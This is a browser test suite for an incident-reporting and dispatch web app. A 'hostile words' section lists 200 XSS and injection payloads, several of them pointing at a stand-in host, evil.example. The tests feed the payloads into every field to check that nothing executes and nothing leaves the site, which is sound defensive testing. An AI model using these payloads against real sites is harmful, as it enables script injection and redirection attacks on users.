"""The pages in a real Chromium: evenings, races, calls, a lost network, hostile words - and how it all looks."""

from __future__ import annotations

import base64
import gzip
import hashlib
import itertools
import json
import os
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from schemas.times import DAY, format_time
from tests.conftest import missing
from tests.pages_made import House, living

pytestmark = pytest.mark.browser

webdriver = (
    pytest.importorskip("selenium.webdriver")
    if os.environ.get("CI") != "true"
    else __import__("selenium.webdriver").webdriver
)

from selenium.common.exceptions import TimeoutException  # noqa: E402
from selenium.webdriver.chrome.service import Service  # noqa: E402
from selenium.webdriver.common.by import By  # noqa: E402
from selenium.webdriver.common.keys import Keys  # noqa: E402
from selenium.webdriver.support.ui import Select, WebDriverWait  # noqa: E402

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
DRIVER = shutil.which("chromedriver")
PICTURES = Path(__file__).parents[2] / "build" / "screens"
STATION = "police-madian"
_DAYS = itertools.count(5, 3)

#: What a page reports of itself: scripts that ran, and violations of the policy.
WATCH = """
window.__ran = 0; window.__violations = [];
window.pwn = () => { window.__ran += 1; };
for (const name of ['alert', 'confirm', 'prompt']) window[name] = () => { window.__ran += 1; };
document.addEventListener('securitypolicyviolation', (event) => window.__violations.push(event.violatedDirective + ' ' + event.blockedURI + ' ' + event.sourceFile));
"""


class Window:
    """One browser of one person."""

    def __init__(self, house: House, width: int = 1366, height: int = 850) -> None:
        options = webdriver.ChromeOptions()
        for flag in (
            "--headless=new",
            "--no-sandbox",
            "--disable-dev-shm-usage",
            "--hide-scrollbars",
            "--autoplay-policy=no-user-gesture-required",
            "--lang=zh-CN",
        ):
            options.add_argument(flag)
        options.add_experimental_option("prefs", {"intl.accept_languages": "zh-CN,zh"})
        options.binary_location = CHROMIUM or ""
        options.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
        self.house = house
        self.driver = webdriver.Chrome(options=options, service=Service(DRIVER))
        self.size(width, height)
        self.driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": WATCH})

    def size(self, width: int, height: int) -> None:
        metrics = {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": width < 600}
        self.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)

    def open(self, path: str) -> None:
        self.driver.get(self.house.url + path)
        self.until(lambda: self.js("return document.readyState") == "complete")

    def js(self, script: str, *given: Any) -> Any:
        return self.driver.execute_script(script, *given)

    def until(self, question: Any, seconds: float = 30) -> Any:
        return WebDriverWait(self.driver, seconds, 0.02, ignored_exceptions=[Exception]).until(lambda _: question())

    def one(self, selector: str) -> Any:
        return self.until(lambda: self.driver.find_element(By.CSS_SELECTOR, selector))

    def has(self, selector: str) -> bool:
        return bool(self.driver.find_elements(By.CSS_SELECTOR, selector))

    def text(self) -> str:
        return str(self.js("return document.body.innerText"))

    def sees(self, words: str) -> None:
        """Waits for the words on a whole page: its scripts, which come last, hear the next key."""
        try:
            self.until(lambda: words in self.text() and self.js("return document.readyState") == "complete")
        except TimeoutException:
            raise AssertionError(f"{words!r} does not stand on {self.driver.current_url}:\n{self.text()}") from None

    def keys(self, *keys: str) -> None:
        from selenium.webdriver import ActionChains

        ActionChains(self.driver).send_keys(*keys).perform()

    def log_in(self, token: str) -> None:
        self.open("/login")
        field = self.one("[name=token]")
        field.send_keys(token)
        field.submit()
        self.until(lambda: "/login" not in self.driver.current_url)

    def forget(self) -> None:
        """As a browser that was never here."""
        self.driver.delete_all_cookies()
        self.driver.execute_cdp_cmd("Storage.clearDataForOrigin", {"origin": self.house.url, "storageTypes": "all"})

    def picture(self, name: str) -> None:
        PICTURES.mkdir(parents=True, exist_ok=True)
        width, height = self.js("return [innerWidth, Math.min(document.documentElement.scrollHeight, 4000)]")
        clip = {"x": 0, "y": 0, "width": width, "height": height, "scale": 1}
        taken = self.driver.execute_cdp_cmd("Page.captureScreenshot", {"captureBeyondViewport": True, "clip": clip})
        (PICTURES / f"{name}.png").write_bytes(base64.b64decode(taken["data"]))

    def clean(self) -> None:
        """Nothing ran that should not, no violation, no request to anywhere else, no error of a script."""
        assert self.js("return [window.__ran, window.__violations]") == [0, []]
        for entry in self.driver.get_log("performance"):
            message = json.loads(entry["message"])["message"]
            if message["method"] == "Network.requestWillBeSent":
                url = message["params"]["request"]["url"]
                assert url.startswith((self.house.url, "data:", "blob:", "chrome", "about:")), url
        errors = [
            log["message"]
            for log in self.driver.get_log("browser")
            if log["level"] == "SEVERE" and "Failed to load resource" not in log["message"]
        ]
        assert errors == []


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    if CHROMIUM is None or DRIVER is None:
        missing("Chromium and its driver: apt-get install chromium chromium-driver fonts-noto-cjk")
    with living(tmp_path_factory.mktemp("browser") / "data") as running:
        yield running


@pytest.fixture(scope="module")
def _window(house: House) -> Iterator[Window]:
    made = Window(house)
    yield made
    made.driver.quit()


@pytest.fixture
def window(_window: Window) -> Window:
    _window.forget()
    _window.size(1366, 850)
    for kind in ("browser", "performance"):
        _window.driver.get_log(kind)  # what the test before left
    return _window


@pytest.fixture(scope="module")
def _second(house: House) -> Iterator[Window]:
    made = Window(house, 390, 844)
    yield made
    made.driver.quit()


@pytest.fixture
def second(_second: Window) -> Window:
    _second.forget()
    for kind in ("browser", "performance"):
        _second.driver.get_log(kind)
    return _second


def apart(house: House, text: str, township: str = "madian", **more: Any) -> str:
    """An incident of its own, whatever the model thinks: days from all others."""
    at = days_ago(house, next(_DAYS))
    return house.tell(text, place={"area": f"anping/{township}"}, reported_at=at, **more)


def days_ago(house: House, days: int) -> str:
    """That moment. Less than 90, else it would be clamped."""
    assert days < 90
    return format_time(house.pages.clock() - days * DAY, 480)


def station_of(house: House, incident: str) -> str:
    from sqlalchemy import select

    from sinks.database import reading
    from sinks.tables import assignments

    def asked() -> Any:
        with reading(house.store.engine) as connection:
            return connection.execute(
                select(assignments.c.station).where(assignments.c.incident_id == incident)
            ).scalar()

    return str(house.until(asked))


def stations_at_work(house: House) -> list[str]:
    """Those with something on their queue."""
    from sqlalchemy import select

    from sinks.database import reading
    from sinks.tables import assignments

    with reading(house.store.engine) as connection:
        return sorted(set(connection.execute(select(assignments.c.station)).scalars()))


def suggest(house: House, one: str, other: str) -> None:
    """The machine is not sure whether these two are one."""
    from sqlalchemy import update

    from sinks.database import writing
    from sinks.tables import incident_tips

    with writing(house.store.engine) as connection:
        connection.execute(
            update(incident_tips).where(incident_tips.c.incident_id == one).values(link="suggested", link_to=other)
        )


def test_the_officers_evening(house: House, window: Window, second: Window) -> None:  # noqa: PLR0915
    # Three days old: too long ago to be joined by itself, recent enough to be remembered.
    earlier = format_time(house.pages.clock() - 3 * DAY, 480)
    older = house.tell(
        "马店镇供销社门口有人拿着菜刀追着人砍，快来人", place={"area": "anping/madian"}, reported_at=earlier
    )
    station = station_of(house, older)
    window.log_in(house.token("station", station, label="夜班"))
    window.until(lambda: "实时" in window.one("#live").text)
    window.one("#bell").click()
    window.until(lambda: window.one("#bell").get_attribute("aria-pressed") == "true")
    rang = int(window.js("return document.documentElement.dataset.rang || '0'"))

    second.open("/")  # somebody reports from a phone
    second.one("#text").send_keys("马店镇有人拿刀要砍人，在供销社门口，快来人")
    Select(second.one("[name=area]")).select_by_value("anping/madian")
    second.one("form#report button[type=submit]").click()
    second.until(lambda: "/r/" in second.driver.current_url)
    told = time.monotonic()
    second.sees("已收到")
    receipt = second.driver.current_url
    window.until(lambda: "拿刀要砍人" in window.one("#queue").text)
    assert time.monotonic() - told < 30  # told of it: by itself the page looks once a minute
    incident = str(window.one("#items .item.is-new .what").get_attribute("href")).rpartition("/")[2]
    window.until(lambda: int(window.js("return document.documentElement.dataset.rang || '0'")) > rang)
    assert window.has("#items .item.is-new.urgent")
    window.picture("evening-queue")

    suggest(house, incident, older)
    window.keys("j")  # the urgent one is on top
    window.until(lambda: window.js("return document.activeElement.classList.contains('what')"))
    window.keys(Keys.ENTER)
    window.sees("可能是同一件事")
    window.picture("evening-incident")
    window.keys("m")
    window.sees("合并已提交")
    house.until(lambda: len(house.pages.incidents.get(county_of(house), older).document["tips"]) == 2)
    window.open(f"/console/incidents/{older}")
    window.sees("线索（2 条）")
    for key, said in (("c", "已认领"), ("a", "已受理"), ("s", "已开始办理")):
        window.keys(key)
        window.sees(said)
    window.keys("r")
    Select(window.one("details[open] select[name=outcome]")).select_by_value("handled")
    window.one("details[open] textarea").send_keys("已到场，双方分开，刀具收缴")
    window.one("details[open] button").click()
    window.sees("已办结")
    assert "刀具收缴" in window.text()
    second.driver.get(receipt)
    second.sees("这件事已经办结")
    second.picture("evening-receipt")
    window.clean()
    second.clean()


def county_of(house: House) -> Any:
    """Somebody of the county, who sees everything."""
    from streams.ports import Principal

    return Principal("t", "county", county=house.county.id)


def test_an_open_incident_follows_and_never_wipes_what_is_typed(house: House, window: Window, second: Window) -> None:
    incident = apart(house, "马店镇北街水管爆了，路上全是水")
    station = station_of(house, incident)
    for one, name in ((window, "甲"), (second, "乙")):
        one.log_in(house.token("station", station, label=name))
        one.open(f"/console/incidents/{incident}")
    second.one("form[action$='/claim'] button").click()
    second.sees("已认领")
    window.sees("甲" if "甲" in window.text() else "乙")  # the other's claim shows without a touch
    window.until(lambda: not window.has("form[action$='/claim']"))
    window.one("summary[data-key=n]").click()
    window.one("details[open] textarea").send_keys("我正在写")
    second.one("form[action$='/acknowledge'] button").click()
    second.sees("已受理")
    note_all(house, incident, ("关了总阀",))
    second.sees("关了总阀")
    assert "已受理" in second.one(".note.good").text  # what follows by itself does not wipe the answer
    window.until(lambda: window.one("#changed").is_displayed())
    assert window.one("details[open] textarea").get_attribute("value") == "我正在写"
    window.one("details[open] button").click()
    window.sees("有人改动了它")
    assert "我正在写" in str(window.one("details[open] textarea").get_attribute("value"))
    window.one("details[open] button").click()
    window.sees("已记下")
    window.clean()


def test_what_somebody_begins_to_write_while_the_page_loads_anew_stays(house: House, window: Window) -> None:
    incident = apart(house, "马店镇北街下水道堵了，污水漫到路上")
    window.log_in(house.token("station", station_of(house, incident)))
    window.open(f"/console/incidents/{incident}")
    begin = "const move = document.querySelector('summary[data-key=n]').parentElement; move.open = true; move.querySelector('textarea').value = '刚开始写';"
    window.js(f"document.addEventListener('htmx:beforeSend', () => {{ {begin} }}, {{once: true}}); htmx.trigger('#incident', 'refresh')")
    window.until(lambda: window.one("#changed").is_displayed())
    assert window.one("details[open] textarea").get_attribute("value") == "刚开始写"
    window.clean()


def test_an_urgent_item_rings_wherever_the_officer_is(house: House, window: Window) -> None:
    incident = apart(house, "马店镇西街有人乱倒垃圾堵了巷子")
    window.log_in(house.token("admin", label="值班"))
    window.open(f"/console/incidents/{incident}")
    window.one("#bell").click()
    window.until(lambda: window.one("#bell").get_attribute("aria-pressed") == "true")
    rang = int(window.js("return document.documentElement.dataset.rang || '0'"))
    station = station_of(house, incident)
    urgent = move_here(house, apart(house, "马店镇东街有人拿刀砍人，快来人"), station)
    window.until(lambda: window.one("#arrived").is_displayed())
    assert int(window.js("return document.documentElement.dataset.rang")) == rang + 1
    note_all(house, incident, ("已清走",))
    window.sees("已清走")  # the page was loaded anew
    assert window.one("#arrived").is_displayed()
    window.keys("?")
    window.until(lambda: window.one("#help").is_displayed())
    window.picture("keys-incident")
    window.keys(Keys.ESCAPE)
    window.until(lambda: not window.one("#help").is_displayed())
    window.one("#arrived a").click()
    window.until(lambda: window.driver.current_url.endswith(urgent))
    window.open(f"/console?station={station}&category=theft")  # a filter hides it, and still it rings
    window.until(lambda: window.one("#bell").get_attribute("aria-pressed") == "true")  # as it was left
    window.until(lambda: "实时" in window.one("#live").text)
    move_here(house, apart(house, "马店镇南关有人持刀伤人，快来人"), station)
    window.until(lambda: int(window.js("return document.documentElement.dataset.rang || '0'")) == 1)
    window.clean()


def move_here(house: House, incident: str, station: str) -> str:
    """Transfers an incident to a station by hand -> the incident."""
    from sinks.station_queue import assignment_id

    county = county_of(house)
    item = house.until(lambda: house.pages.incidents.get(county, incident).document["assignment"])
    assert item["urgent"]
    if item["station"] == station:
        return incident
    body = {"station": station, "reason": "就近"}
    house.pages.desk.move(county, assignment_id(incident), "transfer", body, if_match=f'"{item["revision"]}"', now=house.pages.clock())
    return incident


def test_a_session_that_ends_is_said_and_leads_back(house: House, window: Window) -> None:
    from sinks.database import writing
    from sinks.tables import sessions

    token = house.token("station", STATION)
    window.log_in(token)
    window.until(lambda: "实时" in window.one("#live").text)
    with writing(house.store.engine) as connection:
        connection.execute(sessions.delete())
    window.js("htmx.trigger('#queue', 'refresh')")
    window.until(lambda: window.one("#ended").is_displayed())
    window.one("#ended a").click()
    window.one("[name=token]").send_keys(token + Keys.ENTER)
    window.until(lambda: window.driver.current_url.endswith("/console"))


def test_two_officers_race_for_one_item(house: House, window: Window, second: Window) -> None:
    incident = apart(house, "马店镇南街有人偷了一辆电动三轮车")
    station = station_of(house, incident)
    for one, name in ((window, "甲"), (second, "乙")):
        one.log_in(house.token("station", station, label=name))
        one.driver.execute_cdp_cmd("Network.enable", {})
        one.driver.execute_cdp_cmd(
            "Network.setBlockedURLs", {"urls": ["*/console/events*"]}
        )  # neither hears of the other
        one.open("/console")
    selector = f"a.what[href$='{incident}'] ~ form button"
    for one in (window, second):
        one.one(selector)
    for one in (window, second):
        one.js("document.querySelector(arguments[0]).click()", selector)
    for one in (window, second):
        one.until(lambda one=one: "/console/" in one.driver.current_url and one.has("#incident"))
    said = sorted("已认领，请在时限内受理" in one.text() for one in (window, second))
    assert said == [False, True]
    loser = next(one for one in (window, second) if "已认领，请" not in one.text())
    assert "有人改动了它" in loser.text() and "保留至" in loser.text()
    for one in (window, second):
        one.driver.execute_cdp_cmd("Network.setBlockedURLs", {"urls": []})


def test_the_hotline_desk_by_keyboard_alone(house: House, window: Window) -> None:
    house.tell("东关小区三号楼煤气味很大，住户不敢开灯", place={"area": "anping/anping"})
    window.log_in(house.token("hotline"))
    began = time.monotonic()
    assert window.js("return document.activeElement.id") == "text"
    window.keys("东关小区三号楼有很大的煤气味，住户不敢开灯")
    window.sees("安全隐患")
    window.sees("煤气味很大，住户不敢开灯")
    for typed in ("安平镇", "东关小区三号楼", "李某", "13800138000", ""):
        window.keys(Keys.TAB)
        if typed:
            window.keys(typed)
    window.picture("desk-call")
    window.js("document.activeElement.blur === undefined || document.querySelector('#call [name=phone]').focus()")
    from selenium.webdriver import ActionChains

    ActionChains(window.driver).key_down(Keys.CONTROL).send_keys(Keys.ENTER).key_up(Keys.CONTROL).perform()
    window.sees("已收下")
    assert time.monotonic() - began < 30
    window.sees("这件事一共有 2 条线索")  # told without asking, once it is decided
    assert window.js("return document.activeElement.id") == "text"  # ready for the next call
    assert "13800138000" not in window.text()
    window.clean()


def test_a_report_without_a_network_is_kept_and_sent_once(house: House, window: Window) -> None:
    window.size(390, 844)
    window.open("/")
    window.until(lambda: window.js("return navigator.serviceWorker.controller !== null"))
    network = {"offline": True, "latency": 0, "downloadThroughput": 0, "uploadThroughput": 0}
    window.driver.execute_cdp_cmd("Network.enable", {})
    window.driver.execute_cdp_cmd("Network.emulateNetworkConditions", network)
    window.one("#text").send_keys("西两洼乡地里的电线断了搭在树上")
    Select(window.one("[name=area]")).select_by_value("anping/xiliangwa")
    window.one("form#report button[type=submit]").click()
    window.until(lambda: window.has("#kept li[data-state=waiting]"))
    assert window.one("#offline").is_displayed() and window.one("#text").get_attribute("value") == ""
    window.picture("offline-kept")
    window.driver.refresh()  # the page itself comes from the device
    window.until(lambda: window.has("#kept li[data-state=waiting]"))
    window.driver.execute_cdp_cmd(
        "Network.emulateNetworkConditions",
        {**network, "offline": False, "downloadThroughput": -1, "uploadThroughput": -1},
    )
    window.until(lambda: window.has("#kept li[data-state=sent]"))
    link = window.one("#kept li a").get_attribute("href")
    window.driver.refresh()  # once more: nothing goes out twice
    window.until(lambda: window.has("#kept li[data-state=sent]"))
    assert house.until(lambda: tips_with(house, "电线断了搭在树上")) == 1
    window.driver.get(str(link))
    window.sees("办理进展")


def tips_with(house: House, words: str) -> int:
    from sqlalchemy import func, select

    from sinks.database import reading
    from sinks.tables import incident_tips

    with reading(house.store.engine) as connection:
        return int(connection.execute(select(func.count()).where(incident_tips.c.title.contains(words))).scalar_one())


def test_the_map_marks_a_place_and_gps_fills_it(house: House, window: Window) -> None:
    window.driver.execute_cdp_cmd("Browser.grantPermissions", {"origin": house.url, "permissions": ["geolocation"]})
    window.driver.execute_cdp_cmd(
        "Emulation.setGeolocationOverride", {"latitude": 38.23, "longitude": 115.52, "accuracy": 5}
    )
    window.open("/")
    window.one("#locate").click()
    window.sees("已标出位置")
    assert window.js("return document.querySelector('[name=lat]').value") == "38.230000"
    window.one("#open-map").click()
    window.until(lambda: window.has("#map .leaflet-interactive"))
    window.one("#map").click()
    window.until(lambda: window.js("return document.querySelector('[name=lat]').value") != "38.230000")
    window.clean()


# --- hostile words ----------------------------------------------------------------------------------------------------

_TAGS = (
    "<script>pwn()</script>",
    "<img src=x onerror=pwn()>",
    "<svg onload=pwn()>",
    '"><script>pwn()</script>',
    "'><img src=x onerror='pwn()'>",
    "</textarea><script>pwn()</script>",
    "</title><script>pwn()</script>",
    '<a href="javascript:pwn()">x</a>',
    '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
    "{{ pwn() }} {% import os %} ${pwn()}",
    '" onmouseover="pwn()" autofocus onfocus="pwn()',
    "<div hx-get=/ops hx-trigger=load hx-on:load=pwn()>",
    "<div hx-on::after-settle=\"pwn()\" hx-vals='js:{a:pwn()}' hx-trigger='load[pwn()]'>",
    "]]><script>pwn()</script><![CDATA[",
    "\u2028pwn()\u2029<details open ontoggle=pwn()>",
    "data: x\n\nevent: changed\ndata: <img src=x onerror=pwn()>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/><form action=//evil.example><button>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=pwn()>",
)
_WRAPS = ("{}", "村里{}有事", "{}{}", "&lt;{}&gt;", "%3C{}", "\\u003c{}", "<!--{}", "{}<!--", "<b>{}</b>", "`{}`")


PAYLOADS = tuple(wrap.replace("{}", tag) for wrap in _WRAPS for tag in _TAGS)


def unharmed(window: Window, path: str) -> None:
    """Opens a page: nothing ran and the policy was not even tried."""
    window.open(path)
    assert window.js("return [window.__ran, window.__violations]") == [0, []], path


def test_two_hundred_hostile_words_do_nothing(house: House, window: Window) -> None:
    """Each of them in every field that reporters, callers and officers fill, on every page that shows it."""
    assert len(PAYLOADS) == 200
    townships = [area.path for area in house.county.areas.values() if area.level == "township"]
    said = [
        {"text": f"{tag}，两家吵架", "place": {"text": tag, "area": townships[number % 8]},
         "reporter": {"name": tag[:60], "id": tag[:60]}, "reported_at": days_ago(house, 4 * number + 4)}
        for number, tag in enumerate(_TAGS)
    ]  # fmt: skip
    house.tell_all(said, source="wechat:hostile")
    # As many as a text holds: the pages of an incident show whole texts.
    whole = [
        house.tell("\n".join(PAYLOADS[n : n + 20])[:4000], place={"area": townships[n // 20 % 8]})
        for n in range(0, 200, 20)
    ]
    noted = apart(house, "马店镇东街两家因为排水沟吵架")
    note_all(house, noted, PAYLOADS)
    window.log_in(house.token("admin", label="<script>pwn()</script>"))
    suggest(house, whole[0], whole[-1])
    for incident in (*whole, noted):
        for page in ("", "/print"):
            unharmed(window, f"/console/incidents/{incident}{page}")
    for station in stations_at_work(house):
        unharmed(window, f"/console?station={station}")
    # Every one as a title too, which it is only where no other joined it.
    house.fill_queue("village-madian-peijiaying", [hostile[:200] for hostile in PAYLOADS])
    shown, path = 0, "/console?station=village-madian-peijiaying"
    while path:
        unharmed(window, path)
        shown += len(window.driver.find_elements(By.CSS_SELECTOR, "#items .title"))
        following = window.driver.find_elements(By.CSS_SELECTOR, "a[rel=next]")
        path = str(following[0].get_attribute("href")).removeprefix(house.url) if following else ""
    assert shown >= 200
    for path in ("/county", "/statistics?days=0", "/ops"):
        unharmed(window, path)
    window.open("/desk")
    for start in range(0, 200, 20):
        window.js(
            "const t = document.getElementById('text'); document.getElementById('preview').textContent = ''; t.value = arguments[0]; t.dispatchEvent(new Event('input', {bubbles: true}))",
            "\n".join(PAYLOADS[start : start + 20])[:4000],
        )
        window.until(lambda: window.has("#preview .verdict"))
    assert window.js("return [window.__ran, window.__violations]") == [0, []]
    asked = itertools.cycle(("/r/{}", "/statistics?from={0}&to={0}", "/login?next={0}", "/?county={0}&lang={0}", "/nowhere/{0}?x={0}"))
    for tag, path in zip(_TAGS, asked, strict=False):
        unharmed(window, "/console?station=police-madian&words=" + quote(tag, safe=""))
        unharmed(window, path.format(quote(tag, safe="")))
    window.driver.delete_all_cookies()
    # What was typed comes back with a refusal, in values and in texts: no place of the county is called like this.
    fill = "const form = document.getElementById('report'); [...form.elements.namedItem('area').options][1].value = 'x'; for (const [name, value] of Object.entries(arguments[0])) form.elements.namedItem(name).value = value; form.elements.namedItem('area').selectedIndex = 1; HTMLFormElement.prototype.submit.call(form)"
    window.open("/")
    for start in range(0, 200, 4):
        given = dict(zip(("text", "place", "name", "phone"), PAYLOADS[start : start + 4], strict=True))
        window.js("window.__old = true")
        window.js(fill, given)
        window.until(lambda: window.js("return document.readyState === 'complete' && !window.__old && document.querySelector('[role=alert]') !== null"))
        assert window.js("return [window.__ran, window.__violations]") == [0, []], given
        back = window.js("return [...arguments[0]].map((name) => document.getElementById('report').elements.namedItem(name).value)", ["place", "name"])
        assert back == [given["place"].strip().replace("\n", ""), given["name"].strip().replace("\n", "")]  # as typed: a line holds no line ends
    window.clean()


def note_all(house: House, incident: str, texts: tuple[str, ...]) -> None:
    """An officer's notes, one after the other."""
    from sinks.station_queue import assignment_id

    desk, identity, county = house.pages.desk, assignment_id(incident), county_of(house)
    document = house.pages.incidents.get(county, incident).document["assignment"]
    for text in texts:
        document = desk.move(county, identity, "note", {"text": text}, if_match=f'"{document["revision"]}"', now=house.pages.clock())


# --- how it looks -----------------------------------------------------------------------------------------------------


def test_no_page_overflows_and_all_are_pictured(house: House, window: Window) -> None:
    incident = apart(house, "安平镇西关有人在丝网厂门口堵路讨要工钱，十几个人" + "，情况很复杂" * 12, "anping")
    other = apart(house, "A very long English report withoutanyspacesinitatall" * 3 + " about a street lamp", "anping")
    suggest(house, incident, other)
    window.open("/")
    window.one("#text").send_keys("路灯坏了")
    window.one("form#report button[type=submit]").click()
    window.until(lambda: "/r/" in window.driver.current_url)
    receipt = "/r/" + window.driver.current_url.split("/r/")[1].split("?")[0]
    house.fill_queue("village-anping-beiguan", [f"第{n}件：路灯坏了，晚上看不见路" for n in range(10_000)])
    pages = {
        "queue-large": "/console?station=village-anping-beiguan", "queue-empty": "/console?station=village-anping-beiguan&view=mine",
        "report": "/", "receipt": receipt, "queue": f"/console?station={station_of(house, incident)}",
        "incident": f"/console/incidents/{incident}", "print": f"/console/incidents/{incident}/print", "desk": "/desk",
        "county": "/county", "statistics": "/statistics?days=0", "statistics-empty": "/statistics?from=2020-01-01&to=2020-01-02", "ops": "/ops", "error": "/console/incidents/none", "login": "/login",
    }  # fmt: skip
    token = house.token("admin")
    for width in (360, 768, 1440):
        window.size(width, 900)
        for lang, theme, other in (("zh", "light", "dark"), ("en", "dark", "light")):
            for name, path in pages.items():
                if name == "login":
                    window.driver.delete_all_cookies()
                elif name == "queue-large":
                    window.log_in(token)
                window.open(f"{path}{'&' if '?' in path else '?'}lang={lang}&theme={theme}")
                for chosen in (other, theme):
                    window.js("document.documentElement.dataset.theme = arguments[0]", chosen)
                    wide = window.js("return document.documentElement.scrollWidth - document.documentElement.clientWidth")
                    assert wide <= 0, (name, width, lang, chosen, wide)
                assert window.js("return [window.__ran, window.__violations]") == [0, []], name
                window.picture(f"{name}-{width}-{lang}-{theme}")
    window.clean()


def test_the_chart_tells_of_the_last_day_where_nothing_is_pointed_at(house: House, window: Window) -> None:
    house.tell("安平镇西关的路灯一闪一闪")
    window.log_in(house.token("statistician"))
    window.open("/statistics?days=7")
    figures = window.js("return [...document.querySelectorAll('.u-legend .u-value')].map((e) => e.textContent)")
    day, incidents, tips = window.js("const shown = JSON.parse(document.querySelector('[data-chart]').dataset.chart); return [shown.days.at(-1), shown.incidents.at(-1), shown.tips.at(-1)]")
    assert figures == [day, str(incidents), str(tips)] and int(tips) >= 1


#: What a person who cannot see or point would stumble over. A small set of axe's rules.
AUDIT = r"""
const bad = [];
const name = (e) => (e.getAttribute('aria-label') || (e.labels && [...e.labels].map((l) => l.textContent).join(' ')) || e.innerText || e.getAttribute('title') || e.getAttribute('aria-labelledby') || '').trim();
for (const e of document.querySelectorAll('a[href], button, summary, input:not([type=hidden]), select, textarea')) if (e.checkVisibility() && !name(e)) bad.push('no name: ' + e.outerHTML.slice(0, 120));
const ids = [...document.querySelectorAll('[id]')].map((e) => e.id);
for (const id of ids) if (ids.filter((x) => x === id).length > 1) bad.push('id twice: ' + id);
if (document.querySelectorAll('h1').length !== 1) bad.push('h1: ' + document.querySelectorAll('h1').length);
if (document.querySelectorAll('main').length !== 1) bad.push('main');
if (!document.documentElement.lang) bad.push('lang');
for (const e of document.querySelectorAll('ol > :not(li), ul > :not(li)')) bad.push('list: ' + e.outerHTML.slice(0, 80));
for (const e of document.querySelectorAll('[aria-labelledby]')) if (!document.getElementById(e.getAttribute('aria-labelledby'))) bad.push('labelledby: ' + e.outerHTML.slice(0, 80));
for (const e of document.querySelectorAll('svg[role=img], [role=img]')) if (!e.getAttribute('aria-label')) bad.push('img: ' + e.outerHTML.slice(0, 80));
for (const e of document.querySelectorAll('button, a.button, .tool, summary, select, input:not([type=hidden], [type=checkbox], [type=radio])')) { const r = e.getBoundingClientRect(); if (e.checkVisibility() && (r.height < 24 || r.width < 24)) bad.push('small: ' + r.width + 'x' + r.height + ' ' + e.outerHTML.slice(0, 80)); }
for (const e of document.querySelectorAll('[tabindex]')) if (e.tabIndex > 0) bad.push('tabindex');
return bad;
"""


def test_pages_are_named_and_reachable(house: House, window: Window) -> None:
    incident = apart(house, "安平镇北关两家因为排水沟吵架", "anping")
    window.log_in(house.token("admin"))
    paths = (
        "/",
        "/console?station=" + station_of(house, incident),
        f"/console/incidents/{incident}",
        "/desk",
        "/county",
        "/statistics?days=0",
        "/ops",
    )
    for path, lang in itertools.product(paths, ("zh", "en")):
        window.open(f"{path}{'&' if '?' in path else '?'}lang={lang}")
        assert window.js(AUDIT) == [], path
    window.open("/console")
    window.keys(Keys.TAB)
    assert "skip" in str(window.js("return document.activeElement.className"))
    outline = window.js("return getComputedStyle(document.activeElement).outlineStyle")
    assert outline != "none"


def axe() -> str:
    """axe-core's script, as `vendor/VENDORED.md` says."""
    folder = Path(__file__).parent / "vendor"
    source = gzip.decompress((folder / "axe.min.js.gz").read_bytes())
    assert hashlib.sha256(source).hexdigest() in (folder / "VENDORED.md").read_text("utf-8")
    return source.decode()


def test_axe_finds_nothing_serious(house: House, window: Window) -> None:
    source = axe()
    incident = apart(house, "安平镇南关两家因为宅基地吵架", "anping")
    suggest(house, incident, apart(house, "安平镇南关又有两家因为宅基地吵架", "anping"))
    window.log_in(house.token("admin"))
    paths = (
        "/",
        "/login?next=/ops",
        "/r/0000",
        "/nothing-here",
        "/console?station=" + station_of(house, incident),
        f"/console/incidents/{incident}",
        f"/console/incidents/{incident}/print",
        "/desk",
        "/county",
        "/statistics?days=0",
        "/ops",
    )
    ask = "const done = arguments[0]; axe.run(document, {resultTypes: ['violations']}).then((r) => done(r.violations.map((v) => [v.impact, v.id, v.nodes[0].html.slice(0, 150)])))"
    for path, theme in itertools.product(paths, ("light", "dark")):
        window.open(f"{path}{'&' if '?' in path else '?'}theme={theme}")
        window.js(source)
        found = window.driver.execute_async_script(ask)
        assert [one for one in found if one[0] in ("serious", "critical")] == [], path


def test_a_filter_is_quick_and_leaves_the_page_where_it_is(house: House, window: Window) -> None:
    station = "village-anping-dongguan"
    house.fill_queue(station, [f"第{n}盏路灯坏了" for n in range(10_000)])
    window.log_in(house.token("admin"))
    window.open(f"/console?station={station}")
    window.js("window.__same = true; document.addEventListener('change', () => { window.__began = performance.now(); }, true); document.addEventListener('htmx:afterSettle', () => { window.__took = performance.now() - window.__began; })")
    field = window.one("#filters [name=category]")
    took = []
    for category in ("theft", "fraud", "dispute", "other", "theft"):
        window.js("window.__took = null; arguments[0].focus(); arguments[0].value = arguments[1]; arguments[0].dispatchEvent(new Event('change', {bubbles: true}))", field, category)
        took.append(window.until(lambda: window.js("return window.__took")))
        assert f"category={category}" in window.driver.current_url
        assert window.js("return document.activeElement.name") == "category" and not window.has(".is-new")
    assert min(took) < 500, took  # the aim is 100 ms, the bench has the figure; a busy machine slows some, a slow page is slow each time
    window.one("[name=words]").send_keys("第7盏")
    window.until(lambda: len(window.driver.find_elements(By.CSS_SELECTOR, "#items .title")) == 1)
    assert window.js("return window.__same") and "words=" in window.driver.current_url
    window.js("htmx.trigger('#queue', 'refresh')")  # what comes by itself keeps to the filter
    window.until(lambda: window.js("return document.querySelector('#queue').classList.contains('htmx-request')") is False)
    assert [one.text for one in window.driver.find_elements(By.CSS_SELECTOR, "#items .title")] == ["第7盏路灯坏了"]
    window.open("/county")
    window.driver.back()  # the address holds the filter
    window.until(lambda: len(window.driver.find_elements(By.CSS_SELECTOR, "#items .title")) == 1)
    assert window.one("#filters [name=category]").get_attribute("value") == "theft"
    window.clean()


def test_the_queue_is_quick_and_does_not_shift(house: House, window: Window) -> None:
    window.log_in(house.token("admin"))
    window.open("/console?station=county-triage")
    window.js(
        "window.__shift = 0; new PerformanceObserver((list) => { for (const e of list.getEntries()) window.__shift += e.value; }).observe({type: 'layout-shift', buffered: true})"
    )
